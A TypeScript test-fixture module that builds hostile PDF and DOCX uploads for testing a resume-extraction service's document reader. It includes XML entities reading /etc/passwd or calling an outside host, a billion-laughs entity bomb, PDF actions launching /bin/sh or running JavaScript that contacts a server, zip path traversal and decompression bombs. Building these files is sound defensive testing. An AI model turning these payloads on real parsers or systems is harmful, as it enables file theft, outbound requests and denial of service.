import type { UnreadableReason } from '../../../../apps/api/src/modules/resume/extraction/read-document.js';
import { handMadePdf, line, pdf } from './pdf-file.js';
import { docx, outsideLinks, paragraph, wordDocument, WORD_PARTS, zipFile, type ZipEntry } from './zip-file.js';

/** A file that somebody may send, and what may come of it. */
export interface HostileFile {
  file: string;
  bytes: () => Buffer | Promise<Buffer>;
  /** More than one where it depends on how fast the machine is. */
  outcomes: readonly ('read' | UnreadableReason)[];
  /** Exactly this is read out of it. */
  text?: string;
}

const SAID = 'Amira Haddad, registered nurse in Leeds';

/** A grey square of one pixel. */
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNoAAAAggCBd81ytgAAAABJRU5ErkJggg==',
  'base64',
);
const MEGABYTE = 1_000_000;

/** @param outside where a file that asks for something would ask. */
export function hostileFiles(outside: string, resume: Buffer): HostileFile[] {
  return [
    ...wrongTypes(),
    ...brokenPdfs(resume),
    ...heavyPdfs(),
    ...activePdfs(outside),
    ...archives(),
    ...markup(outside),
  ];
}

function wrongTypes(): HostileFile[] {
  const refused = (file: string, bytes: Buffer): HostileFile => ({
    file,
    bytes: () => bytes,
    outcomes: ['unsupported_type'],
  });
  return [
    { file: 'no bytes at all', bytes: () => Buffer.alloc(0), outcomes: ['empty'] },
    refused('plain text, called .pdf', Buffer.from('Amira Haddad, Nurse\nnot a PDF at all')),
    refused('Word 97 document, or a DOCX locked with a password', Buffer.from('d0cf11e0a1b11ae10000000000', 'hex')),
    refused('Rich Text', Buffer.from('{\\rtf1\\ansi Amira Haddad}')),
    refused(
      'OpenDocument text',
      Buffer.concat([
        zipFile([{ name: 'mimetype', data: '' }]).subarray(0, 30),
        Buffer.from('mimetypeapplication/vnd.oasis.opendocument.text'),
      ]),
    ),
    refused('photo of a resume', PIXEL),
    refused('archive of other files', zipFile([{ name: 'cv.pdf', data: '%PDF-1.7' }])),
    refused('program', Buffer.from('7f454c4602010100000000000000000002003e00', 'hex')),
  ];
}

function brokenPdfs(resume: Buffer): HostileFile[] {
  const noise = Buffer.from(Array.from({ length: 20_000 }, (_, index) => (index * 7919 + 13) % 256));
  return [
    { file: 'PDF: a page with nothing on it', bytes: () => pdf(() => undefined), outcomes: ['empty'] },
    {
      file: 'PDF: locked with a password',
      bytes: () => pdf((page) => page.text('secret'), { userPassword: 'please' }),
      outcomes: ['encrypted'],
    },
    {
      file: 'PDF: only changes are forbidden',
      bytes: () => pdf((page) => page.text(SAID), { ownerPassword: 'owner' }),
      outcomes: ['read'],
      text: SAID,
    },
    {
      file: 'PDF: scan without text',
      bytes: () => pdf((page) => page.image(PIXEL, 0, 0, { width: 500 })),
      outcomes: ['image_only'],
    },
    {
      file: 'PDF: noise behind a header',
      bytes: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), noise]),
      outcomes: ['corrupt'],
    },
    {
      file: 'PDF: ends after a third',
      bytes: () => resume.subarray(0, Math.floor(resume.length / 3)),
      outcomes: ['corrupt', 'empty'],
    },
    { file: 'PDF: its last 500 bytes are missing', bytes: () => resume.subarray(0, -500), outcomes: ['corrupt'] },
    { file: 'PDF: its end mark is missing', bytes: () => resume.subarray(0, -7), outcomes: ['read'] },
    {
      file: 'PDF: 100 pages',
      bytes: () =>
        pdf((page) => {
          for (let number = 1; number < 100; number++) page.addPage().text(`Page ${number}`);
        }),
      outcomes: ['too_many_pages'],
    },
  ];
}

function heavyPdfs(): HostileFile[] {
  const brackets = '['.repeat(100_000) + ']'.repeat(100_000);
  const deepTree = Array.from({ length: 20_000 }, (_, index) =>
    index === 19_999
      ? '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
      : `<< /Type /Pages /Kids [${11 + index} 0 R] /Count 1 >>`,
  );
  const ownForm =
    '<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 10 0 R >> >> /Length 5 >>\nstream\n/X Do\nendstream';
  return [
    {
      file: 'PDF: brackets 100 000 deep',
      bytes: () => handMadePdf({ catalogue: `/Names ${brackets}` }),
      outcomes: ['empty', 'corrupt'],
    },
    {
      file: 'PDF: page tree 20 000 deep',
      bytes: () =>
        handMadePdf({ content: line(SAID), pages: '<< /Type /Pages /Kids [10 0 R] /Count 1 >>', objects: deepTree }),
      outcomes: ['read', 'corrupt', 'too_slow'],
    },
    {
      file: 'PDF: page tree that contains itself',
      bytes: () => handMadePdf({ pages: '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>' }),
      outcomes: ['empty', 'corrupt'],
    },
    {
      file: 'PDF: drawing that draws itself',
      bytes: () =>
        handMadePdf({ content: `${line(SAID)}/X Do`, resources: '/XObject << /X 10 0 R >>', objects: [ownForm] }),
      outcomes: ['read'],
      text: SAID,
    },
    {
      file: 'PDF: page of a billion points',
      bytes: () => handMadePdf({ content: line(SAID), mediaBox: '[0 0 1000000000 1000000000]' }),
      outcomes: ['read', 'empty'],
    },
    {
      file: 'PDF: page that unpacks to 120 MB',
      bytes: () => handMadePdf({ content: Buffer.alloc(120 * MEGABYTE, 'q Q ') }),
      outcomes: ['empty', 'corrupt', 'too_slow'],
    },
    {
      file: 'PDF: two million words on one page',
      bytes: () => handMadePdf({ content: 'BT /F1 10 Tf (x) Tj ET '.repeat(2_000_000) }),
      outcomes: ['corrupt', 'too_slow'],
    },
  ];
}

/** Things that a PDF can ask for when somebody opens it. */
function activePdfs(outside: string): HostileFile[] {
  const text = { content: line(SAID), text: SAID };
  const asking = (file: string, parts: Parameters<typeof handMadePdf>[0]): HostileFile => ({
    file: `PDF: ${file}`,
    bytes: () => handMadePdf({ content: text.content, ...parts }),
    outcomes: ['read'],
    text: SAID,
  });
  const script = `app.launchURL('${outside}/js'); this.submitForm('${outside}/submit');`;
  const annotation = (action: string) => `/Annots [<< /Subtype /Link /Rect [0 0 595 842] /A << ${action} >> >>]`;
  return [
    asking('runs JavaScript when opened', {
      catalogue: `/OpenAction << /S /JavaScript /JS (${script.replace(/[()]/g, '\\$&')}) >>`,
    }),
    asking('starts a program', { catalogue: '/OpenAction << /S /Launch /F (/bin/sh) >>' }),
    asking('link to an address', { page: annotation(`/S /URI /URI (${outside}/link)`) }),
    asking('sends its form', { page: annotation(`/S /SubmitForm /F (${outside}/form)`) }),
    asking('opens another file', {
      catalogue: `/OpenAction << /S /GoToR /F << /FS /URL /F (${outside}/other.pdf) >> >>`,
    }),
    asking('carries a program as attachment', {
      catalogue: '/Names << /EmbeddedFiles << /Names [(run.exe) << /EF << /F 10 0 R >> >>] >> >>',
      objects: ['<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream'],
    }),
    asking('takes a picture from outside', {
      content: `${text.content}/I Do`,
      resources: '/XObject << /I 10 0 R >>',
      objects: [
        `<< /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${outside}/i.png) >> /Length 0 >>\nstream\n\nendstream`,
      ],
    }),
  ];
}

function archives(): HostileFile[] {
  const body = wordDocument(paragraph(SAID));
  const read = (file: string, ...others: ZipEntry[]): HostileFile => ({
    file: `DOCX: ${file}`,
    bytes: () => docx(body, ...others),
    outcomes: ['read'],
    text: SAID,
  });
  const tooLarge = (file: string, bytes: () => Buffer): HostileFile => ({
    file: `DOCX: ${file}`,
    bytes,
    outcomes: ['too_large_inside'],
  });
  const damaged = (file: string, bytes: () => Buffer): HostileFile => ({
    file: `DOCX: ${file}`,
    bytes,
    outcomes: ['corrupt'],
  });
  const huge = () => Buffer.alloc(200 * MEGABYTE, 32);
  return [
    tooLarge('text that unpacks to 200 MB', () => docx(huge())),
    damaged('the same, claiming to be 1 kB', () =>
      zipFile([...WORD_PARTS, { name: 'word/document.xml', data: huge(), claimedSize: 1_000 }]),
    ),
    tooLarge('styles that unpack to 11 MB', () =>
      docx(body, { name: 'word/styles.xml', data: Buffer.alloc(11 * MEGABYTE, 32) }),
    ),
    tooLarge('picture that claims 4 GB', () =>
      docx(body, { name: 'word/media/image1.png', data: PIXEL, claimedSize: 4_000_000_000 }),
    ),
    read('picture that unpacks to 200 MB and claims 1 kB', {
      name: 'word/media/image1.png',
      data: huge(),
      claimedSize: 1_000,
    }),
    tooLarge('3 000 files inside', () =>
      docx(body, ...Array.from({ length: 3_000 }, (_, index) => ({ name: `word/media/${index}.xml`, data: '' }))),
    ),
    read('another archive inside', { name: 'word/embeddings/inner.zip', data: docx(body) }),
    read('macros inside', { name: 'word/vbaProject.bin', data: Buffer.alloc(2_000, 1) }),
    damaged('name that climbs out of its folder', () => docx(body, { name: '../../../tmp/evil.xml', data: 'x' })),
    damaged('name from the root', () => docx(body, { name: '/tmp/evil.xml', data: 'x' })),
    damaged('its text twice', () => docx(body, { name: 'word/document.xml', data: wordDocument(paragraph('Other')) })),
    damaged('no text part', () => zipFile([...WORD_PARTS, { name: 'word/other.xml', data: body }])),
    damaged('ends in the middle', () => docx(body).subarray(0, -30)),
  ];
}

function markup(outside: string): HostileFile[] {
  const declared = (types: string) => `<!DOCTYPE w:document ${types}>`;
  const damaged = (file: string, main: string | Buffer, ...others: ZipEntry[]): HostileFile => ({
    file: `DOCX: ${file}`,
    bytes: () => docx(main, ...others),
    outcomes: ['corrupt'],
  });
  const laughs = Array.from({ length: 10 }, (_, index) =>
    index === 0 ? '<!ENTITY l0 "ha">' : `<!ENTITY l${index} "${`&l${index - 1};`.repeat(10)}">`,
  );
  const asking = paragraph('&ask;');
  const linked = outsideLinks([
    ['attachedTemplate', `${outside}/template.dotm`],
    ['image', `${outside}/picture.png`],
    ['aFChunk', `${outside}/chunk.html`],
    ['frame', `${outside}/frame.html`],
  ]);
  const picture =
    '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="out1"/></w:drawing></w:r></w:p>' +
    '<w:altChunk r:id="out2"/>' +
    `<w:p><w:r><w:instrText>INCLUDEPICTURE "${outside}/field.png"</w:instrText></w:r></w:p>`;
  const deep = '<w:sdt><w:sdtContent>'.repeat(50_000) + paragraph(SAID) + '</w:sdtContent></w:sdt>'.repeat(50_000);
  return [
    damaged('entity that reads a file', wordDocument(asking, declared('[<!ENTITY ask SYSTEM "file:///etc/passwd">]'))),
    damaged('entity that asks a server', wordDocument(asking, declared(`[<!ENTITY ask SYSTEM "${outside}/entity">]`))),
    damaged('document type of a server', wordDocument(paragraph(SAID), declared(`SYSTEM "${outside}/word.dtd"`))),
    damaged('billion laughs', wordDocument(paragraph('&l9;'), declared(`[${laughs.join('')}]`))),
    damaged(
      'entity in UTF-16',
      Buffer.from(
        `\ufeff${wordDocument(asking, declared('[<!ENTITY ask "x">]')).replace('UTF-8', 'UTF-16')}`,
        'utf16le',
      ),
    ),
    damaged('entity in the styles', wordDocument(paragraph(SAID)), {
      name: 'word/styles.xml',
      data: `<!DOCTYPE s [<!ENTITY ask SYSTEM "${outside}/styles">]><w:styles>&ask;</w:styles>`,
    }),
    damaged('elements 100 000 deep', wordDocument(deep)),
    {
      file: 'DOCX: template, picture, text and field from outside',
      bytes: () => docx(wordDocument(paragraph(SAID) + picture), linked),
      outcomes: ['read'],
      text: SAID,
    },
    {
      file: 'DOCX: half a million empty paragraphs',
      bytes: () => docx(wordDocument('<w:p/>'.repeat(500_000))),
      outcomes: ['empty', 'corrupt', 'too_slow'],
    },
  ];
}
